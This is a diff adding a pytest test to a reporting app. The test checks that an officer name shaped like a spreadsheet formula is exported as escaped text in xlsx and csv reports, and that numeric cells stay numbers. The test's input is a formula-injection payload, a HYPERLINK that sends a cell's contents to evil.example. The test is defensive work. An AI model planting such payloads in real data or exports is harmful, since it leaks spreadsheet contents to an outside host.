@@ -235,3 +235,24 @@ def test_xlsx_memory_stays_flat_as_rows_grow():
             peaks.append(tracemalloc.get_traced_memory()[1])
             tracemalloc.stop()
     assert peaks[1] < peaks[0] * 1.5
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_a_name_that_starts_like_a_formula_is_text_in_reports(
+    client, scenario, manager, officer, fmt
+):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
+    officer.first_name, officer.last_name = formula, ""
+    officer.save()
+    url = reverse("reports:manage_unit", args=[scenario.org.province_a.pk])
+    _response, data = export(client, manager, url, export=fmt, table="officers")
+    if fmt == "csv":
+        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+        assert "'" + formula in cells
+        return
+    book = load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    assert "'" + formula in [cell.value for cell in cells]
+    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
+    assert numbers  # figures stay numbers
